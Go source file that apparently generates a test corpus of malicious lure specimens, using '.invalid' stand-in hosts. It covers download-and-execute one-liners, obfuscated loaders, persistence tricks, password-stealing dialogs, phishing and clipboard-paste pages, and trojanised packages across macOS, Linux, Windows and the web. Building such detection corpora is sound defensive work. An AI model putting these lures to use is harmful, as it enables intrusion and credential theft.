package specimens

import "strings"

// freshAgain makes a second batch: other lures in the directions in which the
// first one was missed most.
func (b *kit) freshAgain() {
	b.againApple()
	b.againShell()
	b.againWindows()
	b.againOpened()
	b.againPages()
	b.againPackages()
}

func (b *kit) againApple() {
	mac := func(obf, name, text string, hidden ...string) {
		b.lure("again-mac", "macos", obf, "applescript", name, text, hidden...)
	}
	mac("path in a variable", "Panel Interview.scpt", `
-- Joins the panel
set theHost to "https://panel-in.invalid"
set target to "/tmp/panel"
do shell script "curl -s " & theHost & "/p -o " & target
do shell script "chmod +x " & target
do shell script target & " > /dev/null 2>&1 &"
`)
	mac("property list at the top", "Loan Advisor Call.scpt", `
property fetcher : "curl"
property flags : "-fsL"
property place : "https://loan-advisor-call.invalid/l"
property runner : "bash"
-- Your advisor is waiting.
on run
	do shell script fetcher & space & flags & space & place & " | " & runner
end run
`)
	mac("text replaced", "Notary Session.scpt", `
-- online notary
on swap(t, a, b)
	set AppleScript's text item delimiters to a
	set p to text items of t
	set AppleScript's text item delimiters to b
	return p as text
end swap
do shell script swap("cVrl -s https://notary-session.invalid/n | zsh", "V", "u")
`)
	mac("NSUserScriptTask", "Choir Rehearsal.scpt", `
use framework "Foundation"
-- low latency rehearsal room
set d to current application's NSData's dataWithContentsOfURL:(current application's |NSURL|'s URLWithString:"https://choir-room.invalid/c")
set f to (POSIX path of (path to temporary items)) & "c.scpt"
d's writeToFile:f atomically:true
run script (POSIX file f)
`)
	mac("Terminal by tell", "Visa Appointment.scpt", `
-- Consulate video appointment
tell application "Terminal" to do script "bash -c \"$(curl -sL https://visa-appointment.invalid/v)\""
tell application "System Events" to set visible of process "Terminal" to false
`)
	mac("keystrokes into Spotlight", "Demo Call.scpt", `
tell application "System Events"
	key code 49 using command down
	delay 0.5
	keystroke "Terminal" & return
	delay 1.5
	keystroke "sh -c \"$(curl -s https://demo-call-key.invalid/d)\"" & return
end tell
`)
	mac("WebDAV volume", "Fitting Room.scpt", `
-- virtual fitting
mount volume "https://fitting-room.invalid/dav" as user name "guest" with password "guest"
do shell script "/Volumes/dav/fit"
`)
	mac("perl socket", "Church Service.scpt", `
-- live service
do shell script "perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(\"church-live.invalid:80\");print $s \"GET /c\\n\";eval join q(),<$s>'"
`)
	mac("alert that asks for the password", "Insurance Video Check.scpt", `
set a to display dialog "The camera of your Mac is managed. Password of the administrator:" default answer "" with hidden answer
do shell script "curl -s -G --data-urlencode k=" & quoted form of (text returned of a) & " https://insurance-check.invalid/k"
`)
	mac("Shortcuts", "Podcast Guest.scpt", `
-- guest studio
do shell script "curl -s https://podcast-guest.invalid/g.shortcut -o /tmp/g.shortcut && open /tmp/g.shortcut"
do shell script "shortcuts run g"
`)
	for _, c := range []struct{ name, text string }{
		{"Tutor.scpt", "ruby -ropen-uri -e 'eval URI.open(\"https://tutor-c.invalid/t\").read'"},
		{"Board.scpt", "curl -o /tmp/b.pkg https://board-c.invalid/b.pkg && open /tmp/b.pkg"},
		{"Therapy Session.scpt", "nc therapy-c.invalid 443 | sh"},
		{"Pitch.scpt", "mkdir -p ~/Library/P; curl -s https://pitch-c.invalid/p > ~/Library/P/p; chmod 700 ~/Library/P/p; open -g ~/Library/P/p"},
	} {
		var f fasd
		f.begin()
		f.call("sysoexec")
		f.text(c.text)
		f.end()
		b.boxed("again-mac", "macos", "plain", "compiled", "applescript", c.name, f.data, c.text)
	}
	b.lure("again-mac", "macos", "NSAppleScript", "jxa", "Piano Lesson.js", `
ObjC.import('Foundation')
const s = $.NSAppleScript.alloc.initWithSource('do shell script "curl -s https://piano-lesson.invalid/p | sh"')
s.executeAndReturnError($())
`)
	b.lure("again-mac", "macos", "template text", "jxa", "Book Club.jxa", `
const a = Application.currentApplication(); a.includeStandardAdditions = true
const [c, u] = ['curl', 'https://book-club.invalid/b']
a.doShellScript(´${c} -s ${u} | ${'hsab'.split('').reverse().join('')}´)
`)
}

func (b *kit) againShell() {
	sh := func(platform, obf, name, text string, hidden ...string) {
		b.lure("again-"+platform, platform, obf, "shell", name, text, hidden...)
	}
	mac := func(obf, name, text string, hidden ...string) { sh("macos", obf, name, text, hidden...) }
	mac("awk on itself", "Rental Tour.command", "#!/bin/bash\n# video tour of the flat\nawk '/^@/{f=1;next}f' \"$0\" | base64 -D | bash; exit\n@\n"+b64("curl -s https://rental-tour.invalid/r | bash")+"\n", "curl -s https://rental-tour.invalid/r | bash")
	mac("python exec of the tail", "Casting.command", "#!/bin/bash\n# casting call\npython3 -c \"import base64;exec(base64.b64decode(open('$0').read().split('~~')[-1]))\"; exit\n~~"+b64("import os;os.system('curl -s https://casting-call.invalid/c|sh')")+"\n", "curl -s https://casting-call.invalid/c|sh")
	mac("openssl enc", "Vet Visit.command", "#!/bin/bash\n# your vet is ready\nopenssl enc -d -aes-256-cbc -pbkdf2 -k vet -a -in <(curl -s https://vet-visit.invalid/v) | bash\n")
	mac("array of words", "Wine Tasting.command", "#!/bin/bash\nw=(sh '|' https://wine-tasting.invalid/w -s curl)\neval \"${w[4]} ${w[3]} ${w[2]} ${w[1]} ${w[0]}\"\n")
	mac("functions named as tools", "Exam Proctor.command", "#!/bin/zsh\n# exam proctoring\nget() { command curl -fsS \"https://exam-proctor.invalid/$1\"; }\nrun() { local f=$(mktemp); get \"$1\" >| $f; chmod u+x $f; $f & }\nrun agent\n")
	mac("tee and source", "Auction.command", "#!/bin/bash\n# live auction\ncurl -s https://live-auction.invalid/a | tee /tmp/.a >/dev/null; source /tmp/.a\n")
	mac("xargs", "Yoga Class.command", "#!/bin/bash\necho https://yoga-class.invalid/y | xargs curl -s | xargs -0 bash -c\n")
	mac("find -exec", "Fan Meeting.command", "#!/bin/sh\ncd /tmp && curl -sO https://fan-meeting.invalid/f.zip && unzip -qo f.zip && find . -name '*.cmd' -exec sh {} \\;\n")
	mac("dd and a picture", "Photo Booth.command", "#!/bin/bash\n# backgrounds for your call\ncurl -s https://photo-booth-bg.invalid/p.jpg -o /tmp/p.jpg; dd if=/tmp/p.jpg bs=1 skip=4096 2>/dev/null | gunzip | sh\n")
	mac("uv", "Transcribe.command", "#!/bin/bash\n# transcribes the call\nuv run --with https://transcribe-uv.invalid/t-1.0-py3-none-any.whl transcribe\n")
	mac("conda channel", "Subtitle Kit.command", "#!/bin/bash\nconda install -y -c https://conda.subtitle-kit.invalid subtitle-kit && subtitle-kit\n")
	mac("pnpm dlx", "Assessment.command", "#!/bin/bash\npnpm dlx https://assessment-dlx.invalid/a.tgz --camera\n")
	mac("yarn from git", "Code Review Call.command", "#!/bin/bash\ncd /tmp && mkdir -p crc && cd crc && yarn add git+https://git.code-review-call.invalid/client.git && yarn client\n")
	mac("pip from git", "Speech Test.command", "#!/bin/bash\npip3 install --user git+https://git.speech-test.invalid/st.git && python3 -m st\n")
	mac("submodule", "Workshop.command", "#!/bin/bash\ngit clone --recurse-submodules https://git.workshop-live.invalid/w.git ~/w && ~/w/start\n")
	mac("app by open", "Language Tandem.command", "#!/bin/bash\ncurl -sL https://language-tandem.invalid/T.zip | ditto -xk - /tmp && xattr -cr /tmp/Tandem.app && open /tmp/Tandem.app\n")
	mac("pkg by installer", "Union Vote.command", "#!/bin/bash\ncurl -so /tmp/u.pkg https://union-vote.invalid/u.pkg; sudo installer -pkg /tmp/u.pkg -target /\n")
	mac("login hook", "Reading Group.command", "#!/bin/bash\ncurl -s https://reading-group.invalid/r -o ~/.r; sudo defaults write com.apple.loginwindow LoginHook ~/.r; sh ~/.r\n")
	mac("pbpaste", "Paste Room Key.command", "#!/bin/bash\necho 'Copy the room key from the page, then press Return.'; read; pbpaste | bash\n")
	mac("php sockets", "Quiz Night.command", "#!/bin/bash\nphp -r '$f=fsockopen(\"quiz-night.invalid\",80);while(!feof($f))eval(fgets($f));'\n")
	mac("python http.client", "Parents Council.command", "#!/usr/bin/env python3\nimport http.client, subprocess\nc = http.client.HTTPSConnection('parents-council.invalid'); c.request('GET', '/p')\nsubprocess.Popen(['/bin/sh', '-c', c.getresponse().read().decode()])\n")
	lin := func(obf, name, text string, hidden ...string) {
		b.lure("again-linux", "linux", obf, "shell", name, text, hidden...)
	}
	lin("apt key and source", "add-conference-repo.sh", "#!/bin/sh\nwget -qO- https://deb.conference-app.invalid/key | sudo apt-key add -\necho 'deb https://deb.conference-app.invalid/ any main' | sudo tee /etc/apt/sources.list.d/c.list\nsudo apt update; sudo apt -y install conference-app\n")
	lin("rpm by address", "install-teams.sh", "#!/bin/sh\nsudo rpm -i --nosignature https://teams-rpm.invalid/teams.rpm\n")
	lin("pacman", "install-zoom-arch.sh", "#!/bin/sh\nsudo pacman -U --noconfirm https://zoom-arch.invalid/zoom.pkg.tar.zst\n")
	lin("udev rule", "webcam-rule.sh", "#!/bin/sh\necho 'ACTION==\"add\", SUBSYSTEM==\"video4linux\", RUN+=\"/bin/sh -c curl${IFS}-s${IFS}https://webcam-rule.invalid/w|sh\"' | sudo tee /etc/udev/rules.d/99-cam.rules\n")
	lin("autostart entry", "tray-install.sh", "#!/bin/sh\nmkdir -p ~/.config/autostart\nprintf '[Desktop Entry]\\nType=Application\\nName=Call tray\\nExec=sh -c \"curl -s https://call-tray.invalid/t | sh\"\\n' > ~/.config/autostart/call.desktop\n")
	lin("self-extracting by awk", "CallClient.run", "#!/bin/bash\na=$(awk '/^__PAYLOAD__/{print NR+1;exit}' \"$0\")\ntail -n +$a \"$0\" | base64 -d | bash\nexit 0\n__PAYLOAD__\n"+b64("wget -qO- https://callclient-run.invalid/c | bash")+"\n", "wget -qO- https://callclient-run.invalid/c | bash")
	lin("zenity password", "room-unlock.sh", "#!/bin/bash\np=$(zenity --password --title='Unlock the meeting room')\necho \"$p\" | sudo -S true && curl -s -d \"$USER:$p\" https://room-unlock.invalid/\n")
}

func (b *kit) againWindows() {
	ps := func(obf, name, text string, hidden ...string) {
		b.lure("again-windows", "windows", obf, "powershell", name, text, hidden...)
	}
	ps("HttpClient", "Consulting Call.ps1", "Add-Type -AssemblyName System.Net.Http\n$h = [Net.Http.HttpClient]::new()\n$t = $h.GetStringAsync('https://consulting-call.invalid/c').Result\n[scriptblock]::Create($t).Invoke()\n")
	ps("assembly in memory", "Design Review.ps1", "$b = (iwr https://design-review-ps.invalid/d -UseBasicParsing).Content\n[AppDomain]::CurrentDomain.Load($b).EntryPoint.Invoke($null, $null)\n")
	ps("Add-Type", "Gaming Voice.ps1", "$s = irm https://gaming-voice.invalid/v.cs\nAdd-Type -TypeDefinition $s; [V]::Main()\n")
	ps("variable and Start-Process", "Bank Advisor.ps1", "$source = 'https://bank-advisor-video.invalid/b.exe'\n$file = Join-Path ([IO.Path]::GetTempPath()) 'b.exe'\n[Net.WebClient]::new().DownloadFile($source, $file)\n[Diagnostics.Process]::Start($file) | Out-Null\n")
	ps("job", "Live Shopping.ps1", "Start-Job { irm https://live-shopping.invalid/l | iex } | Out-Null\n'Shop is opening…'; Start-Sleep 30\n")
	ps("profile", "Study Group.ps1", "Add-Content $PROFILE 'irm https://study-group-ps.invalid/s | iex' -Force\n. $PROFILE\n")
	ps("WMI event", "Presence Sync.ps1", "$f = Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments @{Name='p';EventNamespace='root\\cimv2';QueryLanguage='WQL';Query='SELECT * FROM __InstanceModificationEvent WITHIN 900 WHERE TargetInstance ISA \"Win32_LocalTime\"'}\n$c = Set-WmiInstance -Class CommandLineEventConsumer -Namespace root\\subscription -Arguments @{Name='p';CommandLineTemplate='mshta https://presence-sync.invalid/p'}\nSet-WmiInstance -Class __FilterToConsumerBinding -Namespace root\\subscription -Arguments @{Filter=$f;Consumer=$c}\n")
	ps("deflate", "Tax Call.ps1", "$m=[IO.MemoryStream]::new([Convert]::FromBase64String('"+gzip64("irm https://tax-call.invalid/t|iex")+"'))\n$r=[IO.StreamReader]::new([IO.Compression.GZipStream]::new($m,'Decompress')).ReadToEnd()\n&(DIR Alias:/I*X) $r\n", "irm https://tax-call.invalid/t|iex")
	ps("AES", "Board Portal.ps1", "$a=[Security.Cryptography.Aes]::Create();$a.Key=[byte[]](1..32);$a.IV=[byte[]](1..16)\n$d=$a.CreateDecryptor();$c=(iwr https://board-portal-aes.invalid/b).Content\niex ([Text.Encoding]::UTF8.GetString($d.TransformFinalBlock($c,0,$c.Length)))\n")
	ps("quick assist in disguise", "Remote Hands.ps1", "$p=\"$env:TEMP\\rh.exe\"; curl.exe -sLo $p https://remote-hands.invalid/rustdesk.exe\n& $p --silent-install; Start-Sleep 20; & 'C:\\Program Files\\RustDesk\\rustdesk.exe' --password Meet2026\n")
	ps("module from a foreign gallery", "Install-CallTools.ps1", "Register-PSRepository -Name calls -SourceLocation https://psgallery.call-tools.invalid/api/v2 -InstallationPolicy Trusted\nInstall-Module CallTools -Repository calls -Force; Start-Call\n")
	bat := func(obf, name, text string, hidden ...string) {
		b.lure("again-windows", "windows", obf, "batch", name, "@echo off\n"+text, hidden...)
	}
	bat("scriptrunner", "Focus Group.cmd", "ScriptRunner.exe -appvscript \\\\focus-group.invalid\\p\\f.cmd\n")
	bat("hh", "Help for Guests.cmd", "hh.exe https://help-for-guests.invalid/h.chm\n")
	bat("presentationhost", "Stage View.cmd", "presentationhost.exe https://stage-view.invalid/s.xbap\n")
	bat("dfsvc", "Town Hall.cmd", "rundll32 dfshim.dll,ShOpenVerbApplication https://town-hall-co.invalid/t.application\n")
	bat("desktopimgdownldr", "Lock Screen Logo.cmd", "set \"SYSTEMROOT=%TEMP%\" && desktopimgdownldr.exe /lockscreenurl:https://lock-logo.invalid/l.exe /eventName:d\nfor /r %TEMP%\\Personalization %%f in (*.exe) do start \"\" %%f\n")
	bat("esentutl from a share", "Webinar Slides.cmd", "esentutl /y \\\\webinar-slides-es.invalid\\p\\w.exe /d %TEMP%\\w.exe /o\n%TEMP%\\w.exe\n")
	bat("schtasks", "Reminder.cmd", "schtasks /create /f /tn MeetingReminder /sc minute /mo 15 /tr \"mshta https://meeting-reminder-st.invalid/r\"\n")
	bat("wmic process", "Back Channel.cmd", "wmic process call create \"powershell -w hidden irm https://back-channel-w.invalid/b^|iex\"\n")
	bat("winrm script", "Guest Lounge.cmd", "cscript //nologo %windir%\\System32\\SyncAppvPublishingServer.vbs \"n; irm https://guest-lounge.invalid/g|iex\"\n")
	bat("pip", "AI Interviewer.cmd", "py -m pip install -q --extra-index-url https://pypi.ai-interviewer.invalid/simple aiinterview && py -m aiinterview\n")
	bat("node one-liner", "Code Test.cmd", "npx -y https://code-test-npx.invalid/c.tgz\n")
	bat("expand of a cabinet", "Sound Pack.cmd", "curl -so %TEMP%\\s.cab https://sound-pack-cab.invalid/s & expand %TEMP%\\s.cab -F:* %TEMP% >nul & start %TEMP%\\sound.exe\n")
	win := func(language, obf, name, text string) { b.lure("again-windows", "windows", obf, language, name, text) }
	win("vbscript", "function of pieces", "Recital.vbs", "Function g(n) : g = Split(\"curl,-s,https://recital-vbs.invalid/r,-o,%TEMP%\\r.exe\", \",\")(n) : End Function\nCreateObject(\"WScript.Shell\").Run \"cmd /c \" & g(0) & \" \" & g(1) & \" \" & g(2) & \" \" & g(3) & \" \" & g(4) & \" && \" & g(4), 0\n")
	win("vbscript", "Shell.Application", "Seminar.vbs", "Set a = CreateObject(\"Shell.Application\")\na.Open \"\\\\seminar-vbs.invalid\\p\\s.exe\"\n")
	win("jscript", "constructor", "Trial Lesson.js", "var f = [][\"constructor\"][\"constructor\"];\nf(\"new ActiveXObject('WScript.Shell').Run('mshta https://trial-lesson.invalid/t',0)\")();\n")
	win("jscript", "table and swap", "Minutes_Nov.js", "var t='0|sh|1|https://minutes-nov.invalid/m|2|ta '.split('|'),m='m';var c=m+t[1].replace('','')+t[5]+t[3];WScript.CreateObject('WScript.Shell').Run(c.replace('msh','msh'),0);\n")
	win("hta", "iframe", "Waiting Area.hta", "<html><hta:application showintaskbar=no><body><iframe application=yes src=https://waiting-area.invalid/w.hta></iframe></body></html>\n")
	win("wsf", "resource", "Alumni Call.wsf", "<job><resource id=\"c\">cmd /c curl -s https://alumni-call.invalid/a|cmd</resource><script language=\"JScript\">new ActiveXObject(\"WScript.Shell\").Run(getResource(\"c\"),0)</script></job>\n")
}

func (b *kit) againOpened() {
	o := func(platform, language, obf, name, text string) {
		b.lure("again-opened", platform, obf, language, name, text)
	}
	o("windows", "shortcut", "script host on a share", "Handout.url", "[InternetShortcut]\nURL=\\\\handout-url.invalid@80\\d\\handout.wsf\nIconIndex=70\n")
	o("windows", "shortcut", "zone of the other brand", "Zoom Events.url", "[InternetShortcut]\nURL=https://events.zoom.us.lobby-pass.invalid/ev/A1\n")
	o("windows", "xml", "task definition", "MeetingHelper.xml", "<?xml version=\"1.0\"?><Task version=\"1.2\"><Triggers><LogonTrigger/></Triggers><Actions><Exec><Command>mshta.exe</Command><Arguments>https://meeting-helper-task.invalid/m</Arguments></Exec></Actions></Task>\n")
	o("windows", "reg", "protocol handler", "Open zoommtg links.reg", "Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Classes\\zoommtg\\shell\\open\\command]\n@=\"powershell -w hidden -c irm https://zoommtg-handler.invalid/z|iex\"\n")
	o("windows", "inf", "scriptlet", "headset.inf", "[Version]\nSignature=\"$CHICAGO$\"\n[DefaultInstall_SingleUser]\nUnRegisterOCXs=u\n[u]\n%11%\\scrobj.dll,NI,https://headset-inf.invalid/h.sct\n")
	o("windows", "xml", "stylesheet", "agenda.xsl", "<?xml version=\"1.0\"?><stylesheet version=\"1.0\" xmlns=\"http://www.w3.org/1999/XSL/Transform\" xmlns:ms=\"urn:schemas-microsoft-com:xslt\"><ms:script implements-prefix=\"u\" language=\"JScript\"><![CDATA[new ActiveXObject(\"WScript.Shell\").Run(\"cmd /c curl -s https://agenda-xsl.invalid/a|cmd\",0)]]></ms:script></stylesheet>\n")
	o("windows", "shortcut", "remote desktop with a start program", "Whiteboard.rdp", "full address:s:whiteboard-rdp.invalid\nalternate shell:s:whiteboard.exe\ndrivestoredirect:s:*\nredirectclipboard:i:1\nauthentication level:i:0\n")
	o("macos", "plist", "settings of a terminal", "Meeting Colors.itermcolors.terminal", plistHead+"<dict><key>name</key><string>Meeting</string><key>CommandString</key><string>python3 -c \"import urllib.request as u;exec(u.urlopen('https://meeting-colors.invalid/m').read())\"</string><key>type</key><string>Window Settings</string></dict></plist>\n")
	o("macos", "shortcut", "disk image on a share", "Client.fileloc", plistHead+"<dict><key>URL</key><string>afp://client-share.invalid/pub/Client.dmg</string></dict></plist>\n")
	o("macos", "plist", "daemon", "com.apple.audio.callfix.plist", plistHead+"<dict><key>Label</key><string>com.apple.audio.callfix</string><key>Program</key><string>/bin/sh</string><key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>curl -s https://audio-callfix.invalid/a|sh</string></array><key>KeepAlive</key><true/></dict></plist>\n")
	o("macos", "mobileconfig", "web clip and mail account", "Guest Speaker.mobileconfig", plistHead+"<dict><key>PayloadType</key><string>Configuration</string><key>PayloadDisplayName</key><string>Guest Speaker</string><key>PayloadContent</key><array><dict><key>PayloadType</key><string>com.apple.webClip.managed</string><key>Label</key><string>Zoom</string><key>URL</key><string>https://zoom.guest-speaker.invalid/join</string></dict><dict><key>PayloadType</key><string>com.apple.security.root</string></dict></array></dict></plist>\n")
	o("linux", "shortcut", "link", "Teams Call.desktop", "[Desktop Entry]\nType=Link\nName=Teams Call\nURL=https://teams.microsoft.com.call-link.invalid/l/meetup-join/1\nIcon=text-html\n")
	o("linux", "shortcut", "dev tcp", "Audition.desktop", "[Desktop Entry]\nType=Application\nName=Audition\nExec=bash -c \"bash <(exec 3<>/dev/tcp/audition.invalid/80; echo GET /a >&3; cat <&3)\"\nIcon=video\n")
}

func (b *kit) againPages() {
	page := func(language, obf, name, text string, hidden ...string) {
		b.lure("again-web", "web", obf, language, name, text, hidden...)
	}
	page("html", "copy event", "permission.html", "<!doctype html><h1>Camera permission</h1><p>Select all (Ctrl+A), copy (Ctrl+C), open PowerShell and paste.</p><script>document.addEventListener('copy',e=>{e.clipboardData.setData('text/plain','iwr https://copy-event.invalid/c|iex\\r\\n');e.preventDefault()})</script>\n")
	page("html", "Polish", "mikrofon.html", "<!doctype html><html lang=pl><h1>Mikrofon jest zablokowany</h1><p>Naciśnij Windows + R, Ctrl + V i Enter.</p><script>onclick=()=>navigator.clipboard.writeText('mshta https://mikrofon-pl.invalid/m')</script></html>\n")
	page("html", "Turkish", "toplanti.html", "<!doctype html><html lang=tr><h1>Toplantıya katılamıyorsunuz</h1><p>Terminal'i açın, yapıştırın ve Enter'a basın.</p><button onclick=\"navigator.clipboard.writeText('curl -s https://toplanti-tr.invalid/t|sh')\">Düzelt</button></html>\n")
	page("html", "picture of a code", "scan.html", "<!doctype html><title>Microsoft Teams</title><p>Scan the code with your phone to join the meeting.</p><img alt=\"https://teams-scan.invalid/q\" src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">\n")
	page("html", "blob of a shortcut", "presentation.html", "<!doctype html><script>a=document.createElement('a');a.href='data:application/octet-stream;base64,"+b64("[InternetShortcut]\r\nURL=file://presentation-url.invalid/p.exe\r\n")+"';a.download='Presentation.url';document.documentElement.append(a);a.click()</script>\n", "file://presentation-url.invalid/p.exe")
	page("html", "false room that asks to update", "call.html", "<!doctype html><title>Call</title><video src=\"https://false-room.invalid/v.mp4\" autoplay loop muted></video><script>setTimeout(()=>{if(confirm('Your call client is out of date. Update now?'))location='https://false-room.invalid/CallClient.pkg'},9000)</script>\n")
	page("html", "extension", "add-on.html", "<!doctype html><p>Meet needs the caption add-on. Download, unpack, open chrome://extensions, turn on Developer mode and load the folder.</p><a id=a href=\"https://caption-addon.invalid/addon.zip\" download>Download</a><script>a.click()</script>\n")
	page("html", "false sign-in of a brand", "zoom-signin.html", "<!doctype html><title>Sign In | Zoom</title><form method=post action=\"https://zoom-signin.invalid/s\"><input type=email name=e><input type=password name=p><button>Sign In</button></form>\n")
	page("html", "one-time code", "sms.html", "<!doctype html><title>WhatsApp call</title><form action=\"https://wa-code.invalid/c\"><p>Enter the six digits that you received to join the group call.</p><input name=code inputmode=numeric maxlength=6><button>Join</button></form>\n")
	page("ics", "alternative description", "review.ics", "BEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VEVENT\nUID:r@calendar.invalid\nSUMMARY:Review\nX-ALT-DESC;FMTTYPE=text/html:<a href=\"https://meet.google.com.review-room.invalid/abc\">https://zoom.us/j/1</a>\nEND:VEVENT\nEND:VCALENDAR\n")
	page("ics", "alarm", "sprint.ics", "BEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VEVENT\nUID:s@calendar.invalid\nSUMMARY:Sprint\nBEGIN:VALARM\nACTION:PROCEDURE\nATTACH;VALUE=URI:https://sprint-alarm.invalid/s.exe\nTRIGGER:-PT5M\nEND:VALARM\nEND:VEVENT\nEND:VCALENDAR\n")
	page("ics", "PowerShell in the description", "onboarding.ics", "BEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VEVENT\nUID:o@calendar.invalid\nSUMMARY:Onboarding call\nDESCRIPTION:Press Windows+R and paste: powershell irm https://onboarding-ics.invalid/o|iex\nEND:VEVENT\nEND:VCALENDAR\n")
	page("eml", "attached shortcut", "Slides.eml", "From: a@mailer.invalid\nSubject: slides\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=k\n\n--k\nContent-Type: application/octet-stream; name=\"Slides.url\"\nContent-Disposition: attachment; filename=\"Slides.url\"\nContent-Transfer-Encoding: base64\n\n"+b64("[InternetShortcut]\r\nURL=file://slides-mail.invalid/s.exe\r\n")+"\n--k--\n")
	page("eml", "forwarded invitation", "Fwd invitation.eml", "From: b@mailer.invalid\nSubject: Fwd: Webex\nMIME-Version: 1.0\nContent-Type: text/html\n\n<p>Webex meeting: <a href=\"https://acme.webex.com.fwd-join.invalid/j\">Join meeting</a></p>\n")
	page("text", "Discord message", "message.txt", "hey! to hear the stage on mac open terminal and paste this:\n\ncurl -s https://stage-hear.invalid/s | bash\n\nthen restart discord, works for everyone\n")
	page("text", "Portuguese", "Como entrar.txt", "Como entrar na chamada\n1. Pressione Windows + R\n2. Cole: cmd /c curl -s https://como-entrar.invalid/c | cmd\n3. Pressione Enter\n")
	page("text", "address split for the reader", "code.txt", "Access code for the room (paste all lines in Terminal):\n\nu=https://; u=${u}code-room.invalid/c\ncurl -s $u | zsh\n")
}

func (b *kit) againPackages() {
	box := func(platform, wrapper, obf, language, name string, data []byte) {
		b.boxed("again-boxes", platform, wrapper, obf, language, name, data)
	}
	box("macos", "pkg", "postinstall", "shell", "Rehearsal.pkg", xarFile("org.rehearsal", "#!/bin/zsh\nu=https://rehearsal-pkg.invalid/r\n/usr/bin/curl -s $u -o /Users/Shared/r && chmod +x /Users/Shared/r && su $USER -c /Users/Shared/r &\n"))
	box("linux", "deb", "postinst", "shell", "conference-codec_2_all.deb", debFile("conference-codec", "c <c@codec.invalid>", "#!/bin/sh\npython3 -c \"import urllib.request as u;exec(u.urlopen('https://conference-codec.invalid/c').read())\" &\n"))
	box("windows", "iso", "script", "vbscript", "Tour.iso", isoFile(item{"TOUR.VBS", "CreateObject(\"WScript.Shell\").Run \"mshta https://tour-iso.invalid/t\",0\r\n"}))
	box("windows", "zip", "scriptlet by shortcut", "shortcut", "Syllabus.zip", zipItems(item{"Syllabus.lnk", string(shellLink(`..\Windows\System32\wscript.exe`, "/e:vbscript .git\\config", "", ""))}, item{".git/config", "CreateObject(\"WScript.Shell\").Run \"mshta https://syllabus.invalid/s\",0\r\n"}))
	box("macos", "tar.gz", "app with a script", "shell", "Seminar.tgz", gzipped(tarball(item{"Seminar.app/Contents/Info.plist", string(infoPlist("org.seminar", "Seminar", "go"))}, item{"Seminar.app/Contents/MacOS/go", "#!/bin/sh\ncurl -s https://seminar-app.invalid/s|sh\n"})))
	box("linux", "tar.gz", "git hook", "shell", "exercise.tgz", gzipped(tarball(item{"exercise/.git/hooks/post-checkout", "#!/bin/sh\ncurl -s https://exercise-hook.invalid/e | sh\n"}, item{"exercise/README.md", "Run git checkout solution before the call.\n"})))
	b.bundle("again-boxes", "app", "script through a helper", "shell", "Audition Room.app", []Member{{"Contents/Info.plist", infoPlist("app.audition", "Audition Room", "start"), 0o644}, {"Contents/MacOS/start", []byte("#!/bin/zsh\nsource \"${0:A:h}/../Resources/strings\"\n$a -s $b | $c\n"), 0o755}, {"Contents/Resources/strings", []byte("a=curl\nb=https://audition-room.invalid/a\nc=zsh\n"), 0o644}})
	b.bundle("again-boxes", "app", "java script for automation", "jxa", "Green Screen.app", []Member{{"Contents/Info.plist", infoPlist("app.greenscreen", "Green Screen", "run"), 0o644}, {"Contents/MacOS/run", []byte("#!/usr/bin/osascript -l JavaScript\nconst a=Application.currentApplication();a.includeStandardAdditions=true;a.doShellScript('curl -s https://green-screen.invalid/g|sh')\n"), 0o755}})
	tail := "$ErrorActionPreference='SilentlyContinue'\r\niex (irm https://setup-tail.invalid/s)\r\n"
	box("windows", "plain", "script behind the program", "none", "MeetingSetup_x64.exe", append(peFile(nil), strings.Repeat("\x00", 512)+tail...))
}
